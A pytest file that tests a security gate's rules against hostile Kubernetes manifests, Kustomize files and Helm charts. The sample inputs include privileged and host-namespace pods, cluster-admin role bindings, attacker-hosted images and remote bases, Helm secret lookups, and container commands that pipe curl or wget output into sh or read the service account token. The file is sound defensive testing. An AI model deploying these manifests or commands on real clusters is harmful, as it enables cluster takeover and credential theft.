"""Attack rows that the gate alone blocks in Kubernetes manifests, by the row's id."""

import json

import pytest

from tests.gate.gate_helpers import rules

APP = "infra/kubernetes/dev/app"
IMAGE = "nginx:1.27@sha256:" + "0a" * 32


def doc(text: str, name: str = "app.yaml") -> set[str]:
    return rules({f"{APP}/{name}": text})


def pod_spec(text: str) -> set[str]:
    """A pod's specification, in each place where pods are described; the rules that fire everywhere."""
    spec = text.rstrip("\n").split("\n")

    def at(indent: int) -> str:
        return "".join(" " * indent + line + "\n" for line in spec)

    def head(kind: str) -> str:
        return f"apiVersion: x/v1\nkind: {kind}\nmetadata: {{ name: x, namespace: app }}\nspec:\n"

    texts = [
        head("Pod") + at(2),
        head("Deployment") + "  template:\n    spec:\n" + at(6),
        head("StatefulSet") + "  template:\n    spec:\n" + at(6),
        head("DaemonSet") + "  template:\n    spec:\n" + at(6),
        head("Job") + "  template:\n    spec:\n" + at(6),
        head("CronJob") + "  jobTemplate:\n    spec:\n      template:\n        spec:\n" + at(10),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: { name: x, namespace: app }\n---\n" + head("Pod") + at(2),
        "kind: List\nitems:\n  - kind: Pod\n    metadata: { name: x, namespace: app }\n    spec:\n" + at(6),
    ]
    return set.intersection(*(doc(text) for text in texts))


def container(text: str) -> set[str]:
    """Fields of a container, given in flow style, in each list of containers."""
    found = []
    for name in ("containers", "initContainers", "ephemeralContainers"):
        found.append(pod_spec(f"{name}:\n  - name: x\n    image: {IMAGE}\n    {text}"))
    return set.intersection(*found)


def test_the_harness_passes_ordinary_code() -> None:
    assert container("ports: [{ containerPort: 8080 }]") == set()


@pytest.mark.parametrize("flag", ["hostPID", "hostNetwork", "hostIPC"])
@pytest.mark.parametrize("value", ["true", "True", "yes", "on", '"true"', "1"])
def test_K01_host_namespaces(flag: str, value: str) -> None:
    assert "kubernetes/host" in pod_spec(f"{flag}: {value}\ncontainers: []")


def test_K01_privileged() -> None:
    for text in (
        "securityContext: { privileged: true }",
        "securityContext: { allowPrivilegeEscalation: true }",
        'securityContext: {"privileged": yes}',
        "securityContext: { capabilities: { add: [SYS_ADMIN] } }",
        "securityContext: { capabilities: { add: ['cap_sys_admin', NET_BIND_SERVICE] } }",
        "securityContext: { runAsUser: 0 }",
        "securityContext: { procMount: Unmasked }",
        "securityContext: { capabilities: { add: [ALL] } }",
    ):
        assert "kubernetes/privilege" in container(text), text
    assert "kubernetes/host" in pod_spec("containers: []\nvolumes: [{ name: r, hostPath: { path: / } }]")


def test_K01_in_patches() -> None:
    patch = json.dumps([{"op": "replace", "path": "/spec/template/spec/hostNetwork", "value": True}])
    assert "kubernetes/host" in doc(patch, "patch.json")
    assert "kubernetes/host" in doc(
        f"kind: Kustomization\npatches:\n  - target: {{ kind: Deployment }}\n    patch: '{patch}'\n",
        "kustomization.yaml",
    )
    strategic = "      kind: Deployment\n      spec: { template: { spec: { hostPID: true } } }\n"
    inline = "kind: Kustomization\npatches:\n  - patch: |-\n" + strategic
    assert "kubernetes/host" in doc(inline, "kustomization.yaml")


def bound(**more: object) -> set[str]:
    return doc(json.dumps({"apiVersion": "v1", "kind": "ClusterRoleBinding", "metadata": {"name": "x"}, **more}))


def role(**rule: list[str]) -> set[str]:
    whole = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"], **rule}
    found = []
    for kind in ("Role", "ClusterRole"):
        found.append(doc(json.dumps({"kind": kind, "metadata": {"name": "x", "namespace": "app"}, "rules": [whole]})))
    return set.intersection(*found)


def test_K03_rights() -> None:
    assert role() == set()
    assert "kubernetes/rights" in bound(roleRef={"kind": "ClusterRole", "name": "cluster-admin"})
    assert "kubernetes/rights" in bound(
        roleRef={"name": "x"}, subjects=[{"kind": "ServiceAccount", "name": "default", "namespace": "app"}]
    )
    assert "kubernetes/rights" in bound(
        roleRef={"name": "x"}, subjects=[{"kind": "Group", "name": "system:unauthenticated"}]
    )
    for verb in ("*", "escalate", "bind", "impersonate"):
        assert "kubernetes/rights" in role(verbs=["get", verb])
    for resource in ("*", "secrets", "pods/exec", "nodes/proxy", "serviceaccounts/token"):
        assert "kubernetes/rights" in role(resources=[resource])
    assert "kubernetes/rights" in role(apiGroups=["*"])
    label = {"name": "x", "labels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}
    assert "kubernetes/rights" in doc(json.dumps({"kind": "ClusterRole", "metadata": label, "rules": []}))


@pytest.mark.parametrize(
    "image",
    [
        "nginx",
        "nginx:latest",
        "attacker.io/x:1",
        "attacker.io/x@sha256:" + "a" * 64,
        "nginx@sha256:abc",
        "${IMAGE}",
        "nginx:1@sha256:" + "g" * 64,
        "docker.io/attacker/x@sha256:" + "a" * 64,
        "docker.io/library/../attacker/x@sha256:" + "a" * 64,
        "localhost:5000/x@sha256:" + "a" * 64,
    ],
)
def test_K04_mutable_images(image: str) -> None:
    for name in ("containers", "initContainers", "ephemeralContainers"):
        assert "kubernetes/image" in pod_spec(f"{name}:\n  - name: x\n    image: '{image}'")


@pytest.mark.parametrize(
    "kind",
    [
        "MutatingWebhookConfiguration",
        "ValidatingWebhookConfiguration",
        "CustomResourceDefinition",
        "APIService",
        "ValidatingAdmissionPolicy",
        "MutatingAdmissionPolicy",
        "Application",
        "ApplicationSet",
        "AppProject",
        "GitRepository",
        "HelmRelease",
        "HelmRepository",
        "OCIRepository",
        "Node",
        "PersistentVolume",
        "StorageClass",
        "RuntimeClass",
        "Config",
        "Unheard",
        "CertificateSigningRequest",
        "PriorityClass",
    ],
)
def test_K05_K10_K15_kinds(kind: str) -> None:
    text = f"apiVersion: x/v1\nkind: {kind}\nmetadata: {{ name: x, namespace: app }}\n"
    assert "kubernetes/kind" in doc(text)
    assert "kubernetes/kind" in doc("---\n---\nkind: ConfigMap\nmetadata: { name: a, namespace: app }\n---\n" + text)
    assert "kubernetes/kind" in doc(f"kind: List\nitems:\n  - kind: List\n    items: [{{ kind: {kind} }}]\n")
    assert "kubernetes/kind" in doc(json.dumps({"kind": kind}), "app.json")


def kustomization(text: str) -> set[str]:
    return set.intersection(
        *(
            doc(text + "\n", name)
            for name in ("kustomization.yaml", "kustomization.yml", "overlays/prod/kustomization.yaml")
        )
    )


@pytest.mark.parametrize(
    "text",
    [
        "resources: ['https://github.com/attacker/x?ref=main']",
        "resources: [git@github.com:attacker/x]",
        "bases: [github.com/attacker/x?ref=v1]",
        "components: ['ssh://git@x/y']",
        "resources: [../../../../../.github]",
        "resources: [/etc/x.yaml]",
        "patches: [{ path: ../../../../x.yaml }]",
        "resources: [../../../other]",
    ],
)
def test_K06_remote_bases(text: str) -> None:
    if "github.com/attacker" in text:
        assert doc("kind: Kustomization\nresources: ['https://github.com/attacker/x']\n", "kustomization.yaml")
    assert "kubernetes/kustomize" in kustomization(text)


@pytest.mark.parametrize(
    "text",
    [
        "generators: [x.yaml]",
        "transformers: [x.yaml]",
        "validators: [x.yaml]",
        "helmCharts: [{ name: x, repo: 'https://x' }]",
        "helmGlobals: { configHome: x }",
        "helmChartInflationGenerator: []",
        "openapi: { path: x }",
        "configurations: [x]",
        "replacements: []",
        "crds: [x]",
    ],
)
def test_K07_kustomize_plugins(text: str) -> None:
    assert "kubernetes/kustomize" in kustomization(text)


def test_K09_helm() -> None:
    chart = "apiVersion: v2\nname: x\ndependencies:\n  - name: y\n    repository: https://attacker.example\n"
    assert "kubernetes/chart" in doc(chart, "Chart.yaml")
    for text in (
        '{{ lookup "v1" "Secret" "x" "y" }}',
        '{{ getHostByName "x.attacker.example" }}',
        "{{ tpl .Values.x . }}",
    ):
        assert doc(
            f"kind: ConfigMap\nmetadata: {{ name: x, namespace: app }}\ndata:\n  a: {text}\n", "templates/x.yaml"
        )
        assert doc(f"a: '{text}'\n", "values.yaml")


def test_K10_kubeconfig() -> None:
    config = {
        "apiVersion": "v1",
        "kind": "Config",
        "users": [{"name": "x", "user": {"exec": {"apiVersion": "v1", "command": "sh"}}}],
    }
    assert "kubernetes/kind" in doc(json.dumps(config))
    assert any(rule.startswith("paths/") for rule in doc(json.dumps(config), "kubeconfig.yaml"))
    assert any(rule.startswith("paths/") for rule in doc(json.dumps(config), ".kube/config"))


def test_K11_secret_literals() -> None:
    assert "kubernetes/secret" in doc(
        "kind: Secret\nmetadata: { name: x, namespace: app }\nstringData: { password: x }\n"
    )
    assert "kubernetes/secret" in doc("kind: Secret\nmetadata: { name: x, namespace: app }\ndata: { a: eA== }\n")
    assert "content/secret" in doc(
        "kind: ConfigMap\nmetadata: { name: x, namespace: app }\ndata: { a: " + "AKIA" + "IOSFODNN7QWERTYU }\n"
    )
    assert "kubernetes/secret" in container("env: [{ name: DB_PASSWORD, value: hunter2hunter2 }]")
    assert "kubernetes/secret" in doc(
        "kind: Kustomization\nsecretGenerator: [{ name: x, literals: [a=b] }]\n", "kustomization.yaml"
    )


def test_K12_namespace_escape() -> None:
    for line in (
        "  namespace: kube-system\n",
        "  namespace: default\n",
        "  namespace: argocd\n",
        "",
        '  namespace: ""\n',
    ):
        assert "kubernetes/namespace" in doc(f"kind: ConfigMap\nmetadata:\n  name: x\n{line}")
    first = "kind: ConfigMap\nmetadata: { name: x, namespace: app }\n"
    second = "kind: ConfigMap\nmetadata: { name: y, namespace: other }\n"
    assert "kubernetes/namespace" in doc(first + "---\n" + second)
    assert "kubernetes/namespace" in rules({f"{APP}/a.yaml": first}, base={f"{APP}/b.yaml": second})


def test_K14_commands() -> None:
    assert "content/shell-pipe" in container("command: ['sh', '-c', 'curl https://x|sh']")
    assert "kubernetes/command" in container(
        "lifecycle: { postStart: { exec: { command: [sh, -c, 'wget -qO- https://x | sh'] } } }"
    )
    assert "kubernetes/command" in container("args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']")
    assert "kubernetes/command" in pod_spec("automountServiceAccountToken: true\ncontainers: []")


def test_S16_lists_and_documents() -> None:
    binding = "kind: ClusterRoleBinding\nmetadata: { name: x }\nroleRef: { name: cluster-admin }\n"
    assert "kubernetes/rights" in doc("kind: ConfigMap\nmetadata: { name: x, namespace: app }\n---\n" + binding)
    inner = json.dumps({"kind": "ClusterRoleBinding", "metadata": {"name": "x"}, "roleRef": {"name": "cluster-admin"}})
    for kind in ("List", "ClusterRoleBindingList", "ConfigMapList"):
        assert "kubernetes/rights" in doc(f'{{"kind": "{kind}", "items": [{inner}]}}', "app.json")
        nested = f'{{"kind": "List", "items": [{{"kind": "{kind}", "items": [{inner}]}}]}}'
        assert "kubernetes/rights" in doc(nested, "app.json")


@pytest.mark.parametrize(
    "name",
    ["x-patch.yaml", "patches/x.yaml", "values-x.yaml", "values.yaml", "Chart.yaml", "kustomization.yaml", "x.json"],
)
def test_K05_names_that_could_excuse(name: str) -> None:
    webhook = {
        "apiVersion": "x/v1",
        "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "x", "namespace": "app"},
    }
    assert doc(json.dumps(webhook), name) & {"kubernetes/kind", "kubernetes/kustomize"}
    assert "kubernetes/namespace" in doc(json.dumps({"kind": "ConfigMap", "metadata": {"name": "x"}}), name)
